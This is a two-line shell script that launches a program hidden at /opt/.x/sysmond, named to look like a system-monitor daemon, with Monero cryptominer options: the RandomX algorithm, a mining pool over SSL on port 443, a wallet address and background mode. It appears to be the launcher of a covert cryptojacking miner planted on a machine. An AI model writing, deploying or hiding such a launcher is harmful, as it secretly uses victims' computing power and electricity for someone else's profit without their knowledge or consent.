#!/bin/sh
exec /opt/.x/sysmond -a rx/0 -o stratum+ssl://xmr.pool.example.com:443 -u 4BrL51JCc9NGQ71kWhnYoDRffsDZy7m1HUU7MRU4nUMXAHNFBEJhkTZV9HdaL4gfuNBxLPc3BeMkLGaPbF5vWtANQn8xfLW -p worker --donate-level 1 --background
